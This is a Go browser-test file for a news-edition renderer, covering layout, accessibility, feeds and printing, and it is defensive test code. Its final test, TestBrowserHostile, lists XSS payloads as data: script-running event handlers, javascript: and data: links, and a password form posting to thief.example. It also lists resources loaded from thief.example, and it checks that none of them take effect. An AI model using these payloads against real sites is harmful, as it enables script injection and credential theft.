package render

import (
	"bytes"
	"io"
	"net/http"
	"os"
	"path"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/chromedp/cdproto/browser"
	"github.com/chromedp/cdproto/emulation"
	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"
	"github.com/copytaster/copytaster/feed"
)

// TestBrowser reads an edition as a person does, in Debian's chromium.
func TestBrowser(t *testing.T) {
	n := openNewsstand(t)
	stories := pageChannels(n.base)[0].Stories
	ferry := stories[1]
	ferry.Lead.Content = feed.HTML(strings.ReplaceAll(string(ferry.Lead.Content), "https://post.example/marigold.jpg", n.base+IconPath))
	n.putStory(pageChannels(n.base)[0], ferry)

	n.run("front page, story, back", n.readFront)
	n.run("audit", func() { n.audit(stories) })
	n.run("images", func() { n.images(ferry) })
	n.run("recordings", func() { n.play(stories[2]) })
	n.run("right to left", func() { n.rightToLeft(stories[3]) })
	n.run("autodiscovery", n.discover)
	n.run("addresses", n.copyAddress)
	n.run("without script", n.withoutScript)
	n.run("keyboard", n.keyboard)
	n.run("long titles", func() { n.longTitles(stories[0]) })
	n.run("print", func() { n.print(stories[0]) })
	n.run("moved story", func() { n.follow(stories[0]) })
	n.run("feeds", n.readFeeds)
	n.run("from a folder", n.folder)
	n.keptToItself()
}

func (n *newsstand) readFront() {
	n.as(1280, "light")
	n.open("")
	n.shoot("front-1280-light")
	if *update { // the picture in the README
		if err := os.Rename(filepath.Join(n.dir, "front-1280-light.png"), filepath.Join("..", "..", ".github", "front.png")); err != nil {
			n.Error(err)
		}
	}
	if got := eval[string](n, `document.querySelector("h1").textContent`); got != "The Strait" {
		n.Errorf("the front page is headed %q", got)
	}
	sizes := eval[[]float64](n, `["article.big h3", "article.mid h3", "article:not(.mid,.big) h3"].map(s => parseFloat(getComputedStyle(document.querySelector(s)).fontSize))`)
	if !slices.IsSortedFunc(sizes, func(a, b float64) int { return int(b - a) }) || sizes[0] < sizes[2]*1.4 {
		n.Errorf("headlines of %v px: big stories do not look big", sizes)
	}
	n.do(chromedp.Click(chromedp.CSS("details summary")), chromedp.WaitVisible(chromedp.CSS("details[open] li")))
	n.do(chromedp.Click(chromedp.CSS("article .by a")), chromedp.WaitVisible(chromedp.CSS("#timeline")))
	n.shoot("story-1280-light")
	if got := eval[int](n, `document.querySelectorAll(".timeline li").length`); got != 9 {
		n.Errorf("%d lines in the timeline, want 9", got)
	}
	n.do(chromedp.Click(chromedp.CSS("header.bar a")), chromedp.WaitVisible(chromedp.CSS("#stories")))
	n.do(chromedp.Click(chromedp.CSS(".index li a")))
	if got := eval[string](n, `location.hash`); !strings.HasPrefix(got, "#d-2026-09-1") {
		n.Errorf("the index of days leads to %q", got)
	}
}

// audit looks at every page, narrow and wide, light and dark.
func (n *newsstand) audit(stories []feed.Story) {
	pages := map[string]string{
		"front": "", "channel": "harbour/", "empty": "greece/", "subscribe": SubscribePath, "status": StatusPath,
		"story": StoryPath(stories[0].ID), "ferry": StoryPath(stories[1].ID), "text": StoryPath(stories[2].ID),
		"rtl": StoryPath(stories[3].ID), "japanese": StoryPath(stories[4].ID), "arabic": n.putArabic(),
	}
	for _, width := range []int64{1280, 320} {
		for _, scheme := range []string{"light", "dark"} {
			n.as(width, scheme)
			for name, at := range pages {
				n.open(at)
				eval[chromedp.Void](n, `document.querySelectorAll("details").forEach(d => d.open = true)`)
				for _, wrong := range eval[[]string](n, pageAudit) {
					n.Errorf("%s at %d px, %s: %s", name, width, scheme, wrong)
				}
				eval[chromedp.Void](n, `document.querySelectorAll("details").forEach(d => d.open = false)`)
				n.shoot(name + "-" + map[int64]string{1280: "1280", 320: "320"}[width] + "-" + scheme)
				dark := eval[bool](n, `(c => c[0] + c[1] + c[2] < 200)(getComputedStyle(document.documentElement).backgroundColor.match(/\d+/g).map(Number))`)
				if dark != (scheme == "dark") {
					n.Errorf("%s: dark is %v in %s", name, dark, scheme)
				}
			}
		}
	}
}

// putArabic lays the front page of an Arabic edition, whose own words are English, into the edition and returns its path.
func (n *newsstand) putArabic() string {
	n.Helper()
	d := pageChannels(n.base)[1]
	d.Slug, d.Title, d.Language = "arabic", "الميناء", "ar"
	page, err := Page(d)
	if err != nil {
		n.Fatal(err)
	}
	n.put("arabic/index.html", page)
	return "arabic/"
}

// images holds that an image waits for its reader and does not say where it stands, and that switched off it is a link.
func (n *newsstand) images(s feed.Story) {
	n.as(1280, "light")
	n.mu.Lock()
	n.referers = nil
	n.mu.Unlock()
	n.open(StoryPath(s.ID))
	if got := eval[bool](n, `document.images[0].decode().then(() => document.images[0].naturalWidth > 0)`, chromedp.EvalAwaitPromise); !got {
		n.Error("the article's image does not show")
	}
	n.mu.Lock()
	for _, r := range n.referers {
		if r != "" {
			n.Errorf("a request says that it comes from %s", r)
		}
	}
	n.mu.Unlock()
	d := pageChannels(n.base)[0]
	d.NoImages = true
	s.ID = feed.NewID("without images")
	s.Lead.Content = nightFerry().Content
	n.open(n.putStory(d, s))
	if got := eval[string](n, `document.querySelector(".body figure a").textContent`); got != "The Marigold at her berth" {
		n.Errorf("in the place of the image stands %q", got)
	}
}

// play holds that a recording can be heard on a story's page, and that it waits for its listener.
func (n *newsstand) play(s feed.Story) {
	silence := append([]byte("RIFF\x64\x1f\x00\x00WAVEfmt \x10\x00\x00\x00\x01\x00\x01\x00\x40\x1f\x00\x00\x40\x1f\x00\x00\x01\x00\x08\x00data\x40\x1f\x00\x00"),
		bytes.Repeat([]byte{128}, 8000)...)
	n.put("bees.wav", silence)
	s.ID = feed.NewID("a recording")
	s.Lead.Enclosures = []feed.Enclosure{{URL: n.base + "bees.wav", Type: "audio/wav", Length: int64(len(silence))}}
	n.open(n.putStory(pageChannels(n.base)[0], s))
	n.mu.Lock()
	if slices.Contains(n.asked, n.base+"bees.wav") {
		n.Error("the page asks for a recording that nobody plays")
	}
	n.mu.Unlock()
	byHand := func(p *runtime.EvaluateParams) { p.UserGesture = new(true) }
	if got := eval[string](n, `(a => a.play().then(() => String(a.duration), e => e.message))(document.querySelector("audio"))`,
		chromedp.EvalAwaitPromise, byHand); got != "1" {
		n.Errorf("a recording of a second, played: %s", got)
	}
}

func (n *newsstand) rightToLeft(s feed.Story) {
	n.as(320, "light")
	n.open(StoryPath(s.ID))
	got := eval[struct {
		Direction, Align string
		Gap              float64
	}](n, `(h => {
	const s = getComputedStyle(h), r = document.createRange();
	r.selectNodeContents(h);
	return {direction: s.direction, align: s.textAlign, gap: h.getBoundingClientRect().right - r.getBoundingClientRect().right};
	})(document.querySelector("h1"))`)
	if got.Direction != "rtl" || got.Align != "start" || got.Gap > 2 {
		n.Errorf("the heading stands %+v", got)
	}
	// The page's own line above is English, and stays so.
	if dir := eval[string](n, `getComputedStyle(document.querySelector("header.bar")).direction`); dir != "ltr" {
		n.Errorf("the page is %s", dir)
	}
}

// discover finds the feeds as readers do, by the links in the page's head.
func (n *newsstand) discover() {
	n.open("")
	links := eval[map[string]string](n, `Object.fromEntries([...document.querySelectorAll("link[rel=alternate]")].map(l => [l.type, l.href]))`)
	for mediaType, mark := range map[string]string{
		"application/rss+xml": "<rss", "application/atom+xml": "<feed", "application/feed+json": "jsonfeed.org/version",
	} {
		res, err := http.Get(links[mediaType])
		if err != nil {
			n.Errorf("%s: %v", mediaType, err)
			continue
		}
		b, err := io.ReadAll(res.Body)
		res.Body.Close()
		if err != nil || !bytes.Contains(b, []byte(mark)) || !bytes.Contains(b, []byte("The Strait")) {
			n.Errorf("%s at %s is no feed of ours: %v", mediaType, links[mediaType], err)
		}
	}
}

func (n *newsstand) copyAddress() {
	for _, permission := range []string{"clipboard-read", "clipboard-write"} {
		if _, err := chromedp.CallBrowser(n.ctx, browser.SetPermission, browser.SetPermissionParams{
			Permission: &browser.PermissionDescriptor{Name: permission}, Setting: browser.PermissionSettingGranted,
		}); err != nil {
			n.Fatal(err)
		}
	}
	n.as(1280, "light")
	n.open(SubscribePath)
	n.do(chromedp.Click(chromedp.CSS("#c-harbour .address button")), chromedp.Poll[chromedp.Void](`document.getElementById("said").textContent`))
	want := n.base + "harbour/atom.xml"
	if got := eval[string](n, `navigator.clipboard.readText()`, chromedp.EvalAwaitPromise); got != want {
		n.Errorf("copied %q, want %q", got, want)
	}
	if got := eval[string](n, `document.querySelector("#c-harbour button").textContent + " / " + document.getElementById("said").textContent`); got != "Copied / Copied: "+want {
		n.Errorf("the page says %q", got)
	}
	// Where the edition does not know its address, the reader's browser does.
	page, err := SubscribePage(pageChannels(""))
	if err != nil {
		n.Fatal(err)
	}
	n.put("subscribe/baseless.html", page)
	n.open("subscribe/baseless.html")
	if got := eval[string](n, `document.querySelector("#c-harbour input").value`); got != want {
		n.Errorf("without a base the address is %q, want %q", got, want)
	}
}

// withoutScript holds that nothing needs the script.
func (n *newsstand) withoutScript() {
	call(n, emulation.SetScriptExecutionDisabled, emulation.SetScriptExecutionDisabledParams{Value: true})
	defer call(n, emulation.SetScriptExecutionDisabled, emulation.SetScriptExecutionDisabledParams{})
	n.open(SubscribePath)
	if got := eval[[]int](n, `["#all input", "button"].map(s => document.querySelectorAll(s).length)`); !slices.Equal(got, []int{3, 0}) {
		n.Errorf("without script there are %v fields and buttons", got)
	}
	n.do(chromedp.Focus(chromedp.CSS("#all .address a")), chromedp.KeyEvent(kb.Tab))
	if got := eval[string](n, `getSelection().toString() || document.activeElement.value.slice(document.activeElement.selectionStart, document.activeElement.selectionEnd)`); got != n.base+"atom.xml" {
		n.Errorf("the tab key selects %q", got)
	}
}

// keyboard visits all that can be used, in the order of the document.
func (n *newsstand) keyboard() {
	n.as(1280, "light")
	for _, at := range []string{"", StoryPath(pageChannels("")[0].Stories[0].ID), SubscribePath} {
		n.open(at)
		want := eval[[]string](n, focusable)
		var got []string
		for range want {
			n.do(chromedp.KeyEvent(kb.Tab))
			f := eval[struct {
				Name  string
				Wrong []string
			}](n, focused)
			got = append(got, f.Name)
			for _, wrong := range f.Wrong {
				n.Errorf("%s: the focus on %s: %s", at, f.Name, wrong)
			}
		}
		if !slices.Equal(got, want) {
			n.Errorf("%s: the tab key goes to\n%q, want\n%q", at, got, want)
		}
	}
	n.open("")
	n.do(chromedp.KeyEvent(kb.Tab), chromedp.KeyEvent(kb.Enter), chromedp.KeyEvent(kb.Tab))
	if got := eval[bool](n, `document.activeElement === document.querySelector("main a")`); !got {
		n.Error("the skip link does not skip to the stories")
	}
}

// print holds that paper carries the addresses of links, and nothing to click.
func (n *newsstand) print(s feed.Story) {
	n.as(800, "dark")
	n.open(StoryPath(s.ID))
	call(n, emulation.SetEmulatedMedia, emulation.SetEmulatedMediaParams{Media: "print"})
	n.shoot("print")
	if got := eval[string](n, `getComputedStyle(document.querySelector(".list a"), "::after").content`); !strings.Contains(got, "https://gazette.example/2026/09/pivot") {
		n.Errorf("behind a link stands %s", got)
	}
	if got := eval[bool](n, `[...document.querySelectorAll(".skip, footer nav, .bar p+p")].some(e => e.checkVisibility())`); got {
		n.Error("paper shows what is for the screen")
	}
}

// longTitles looks at a headline as long as one may be: a list shows its beginning, and all of it stands there for those who
// do not see it, for who has the focus on it, and on the story's page.
func (n *newsstand) longTitles(s feed.Story) {
	d := pageChannels(n.base)[0]
	s.Lead.Title = "Very long title " + strings.Repeat("word ", 150) + strings.Repeat("Supercalifragilistic", 10) + " end"
	for i := range s.Related {
		s.Related[i].Title = s.Lead.Title
	}
	d.Slug, d.Stories = "long", []feed.Story{s}
	front, err := Page(d)
	if err != nil {
		n.Fatal(err)
	}
	n.put("long/index.html", front)
	for _, width := range []int64{1280, 320} {
		n.as(width, "light")
		n.open("long/")
		n.shoot("long-" + strconv.Itoa(int(width)))
		got := eval[struct {
			Head, Listed float64
			Text         string
		}](n, `(() => {
		const lines = e => e.getBoundingClientRect().height / parseFloat(getComputedStyle(e).lineHeight);
		const head = document.querySelector("article h3"), listed = [...document.querySelectorAll("article .list :is(a, bdi[dir])")];
		return {head: lines(head), listed: Math.max(...listed.map(lines)), text: head.textContent};
		})()`)
		if got.Head > 6.2 || got.Listed > 3.4 || got.Text != s.Lead.Title {
			n.Errorf("at %d px %+v", width, got)
		}
		n.do(chromedp.KeyEvent(kb.Tab), chromedp.KeyEvent(kb.Enter), chromedp.KeyEvent(kb.Tab)) // past what the skip link skips
		if got := eval[string](n, `getComputedStyle(document.activeElement.closest("h3")).webkitLineClamp`); got != "none" {
			n.Errorf("at %d px the headline with the focus is cut at line %s", width, got)
		}
	}
	n.open(n.putStory(d, s))
	if got := eval[string](n, `(e => getComputedStyle(e).webkitLineClamp + e.textContent)(document.querySelector("h1"))`); got != "none"+s.Lead.Title {
		n.Errorf("the story's page is headed %q", got)
	}
	n.putStory(d, pageChannels(n.base)[0].Stories[0])
}

// follow goes to the page of a story that was merged into another.
func (n *newsstand) follow(to feed.Story) {
	n.open(StoryPath(retired))
	n.do(chromedp.WaitVisible(chromedp.CSS("#timeline")))
	if got := eval[string](n, `location.href`); got != n.base+StoryPath(to.ID) {
		n.Errorf("the pointer leads to %s", got)
	}
}

// readFeeds opens the feeds in the browser, where their style makes them readable: headlines, dates and standfirsts, each in
// the direction of its text, and a notice of what this is.
func (n *newsstand) readFeeds() {
	n.as(320, "dark")
	for _, c := range []struct {
		name, notice  string // the notice of the style
		stands, links int
	}{{"atom.xml", "This is a feed", 5, 0}, {"rss.xml", "This is a feed", 5, 0}, {"harbour/atom.xml", "", 0, 2}} {
		name := c.name
		feed := string(n.tree[name].Data)
		styled := path.Join(path.Dir(name), "styled-"+path.Base(name))
		n.put(styled, []byte(feed))
		n.open(styled)
		n.shoot("feed-" + strings.ReplaceAll(strings.TrimSuffix(name, ".xml"), "/", "-"))
		got := eval[struct {
			Titles, Dates, Stands, Bodies, Links int
			Wide                                 float64
			Family, Notice, Arabic               string
		}](n, `(() => {
		const shown = s => [...document.querySelectorAll(s)].filter(e => e.getBoundingClientRect().height > 0).length;
		const root = document.documentElement, before = getComputedStyle(root, "::before");
		const arabic = [...document.querySelectorAll("item > title, entry > title")].find(e => /[\u0600-\u06ff]/.test(e.textContent));
		const text = document.createRange();
		text.selectNodeContents(arabic);
		const box = arabic.getBoundingClientRect(), last = [...text.getClientRects()].at(-1);
		return {titles: shown("item > title, entry > title"), dates: shown("pubDate, published"),
			stands: shown("item > description, summary"), bodies: shown("content, encoded"), links: shown("a[href]"),
			wide: root.scrollWidth - innerWidth, family: getComputedStyle(root).fontFamily,
			notice: before.display === "none" ? "" : before.content, arabic: last.right >= box.right - 1 ? "right" : "left"};
		})()`)
		if got.Titles != 5 || got.Dates != 5 || got.Stands != c.stands || got.Bodies != 0 || got.Links != c.links || got.Wide > 0 ||
			!strings.Contains(got.Family, "sans") || got.Arabic != "right" || !strings.Contains(got.Notice, c.notice) || (got.Notice == "") != (c.notice == "") {
			n.Errorf("%s shows %+v", name, got)
		}
	}
}

// folder opens the edition from disk.
func (n *newsstand) folder() {
	dir := n.TempDir()
	for name, file := range n.tree {
		full := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			n.Fatal(err)
		}
		if err := os.WriteFile(full, file.Data, 0o644); err != nil {
			n.Fatal(err)
		}
	}
	n.mu.Lock()
	asked := slices.Clone(n.asked)
	n.mu.Unlock()
	n.as(1280, "light")
	n.do(chromedp.Navigate("file://" + filepath.ToSlash(filepath.Join(dir, "index.html"))))
	n.do(chromedp.Click(chromedp.CSS("article .by a")), chromedp.WaitVisible(chromedp.CSS("#timeline")))
	if got := eval[string](n, `getComputedStyle(document.querySelector("h1")).fontFamily`); !strings.Contains(got, "serif") || !strings.Contains(got, "Georgia") {
		n.Errorf("a page from disk is set in %s", got)
	}
	n.do(chromedp.Click(chromedp.CSS(".bar p+p a")), chromedp.WaitVisible(chromedp.CSS("button")))
	n.mu.Lock()
	defer n.mu.Unlock()
	for _, address := range n.asked[len(asked):] {
		if !strings.HasPrefix(address, "file://") {
			n.Errorf("a page from disk asked for %s", address)
		}
	}
	n.asked = asked
}

// TestBrowserHostile puts into a page what no sanitiser would let through. Nothing of it runs, loads or covers the page.
func TestBrowserHostile(t *testing.T) {
	n := openNewsstand(t)
	d := pageChannels(n.base)[0]
	for i, body := range append(slices.Clone(brokenBodies),
		`<img src=x onerror="pwned=1"><svg onload="pwned=1"></svg><script>pwned=1</script><p onclick="pwned=1">p`,
		`<a href="javascript:pwned=1">one</a><a href="data:text/html,<script>pwned=1</script>">two</a>`,
		`<div style="position:fixed;inset:0;background:red">over</div><style>header{display:none}</style>`,
		`<form action="https://thief.example/"><input name=password autofocus></form><button>go</button>`,
		`<link rel=stylesheet href="https://thief.example/x.css"><meta http-equiv=refresh content="0;url=https://thief.example/">`,
		`<base href="https://thief.example/"><iframe src="https://thief.example/"></iframe><object data="https://thief.example/"></object>`,
		`<video src="https://thief.example/v" autoplay></video><audio src="https://thief.example/a" autoplay></audio><embed src="https://thief.example/e">`,
		`<details open ontoggle="pwned=1">d</details><math><a xlink:href="javascript:pwned=1">m</a></math>`,
	) {
		s := d.Stories[0]
		s.ID, s.Lead.Content = feed.NewID("hostile", body), feed.HTML(body)
		at := n.putStory(d, s)
		n.open(at)
		eval[chromedp.Void](n, `document.querySelectorAll(".body a").forEach(a => { if (a.click && !/^http/.test(a.protocol)) a.click(); })`)
		got := eval[struct {
			Pwned, Whole bool
			At           string
		}](n, `(() => {
		const bar = document.querySelector("header.bar a").getBoundingClientRect();
		const hit = document.elementFromPoint(bar.left + 3, bar.top + bar.height / 2);
		return {pwned: "pwned" in window, at: location.href, whole: !!hit && hit.closest("header.bar") !== null &&
			!!document.querySelector("body > footer") && document.activeElement === document.body};
		})()`)
		if got.Pwned || !got.Whole || got.At != n.base+at {
			n.Errorf("body %d, %.60s: %+v", i, body, got)
		}
	}
	n.mu.Lock()
	n.said = slices.DeleteFunc(n.said, func(s string) bool { // the browser says what it did not let happen
		return strings.Contains(s, "violates the following Content Security Policy") || strings.Contains(s, "Not allowed to navigate top frame to data URL") ||
			strings.Contains(s, "404 (Not Found)") // an image of the body that is ours by its address
	})
	n.mu.Unlock()
	n.keptToItself()
}
